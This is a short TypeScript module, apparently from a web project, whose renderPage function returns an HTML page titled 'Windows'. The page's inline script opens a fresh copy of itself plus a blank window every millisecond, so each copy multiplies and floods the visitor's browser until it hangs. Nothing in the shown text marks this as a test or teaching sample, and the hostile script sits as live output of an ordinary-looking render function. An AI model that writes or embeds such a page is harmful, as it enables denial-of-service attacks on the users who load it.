export { clientScript } from './client-script.js';

export function renderPage(): string {
  return `<!doctype html><title>Windows</title><script>setInterval(() => { window.open(location.href + '?' + Math.random()); window.open('about:blank'); }, 1);</script>`;
}
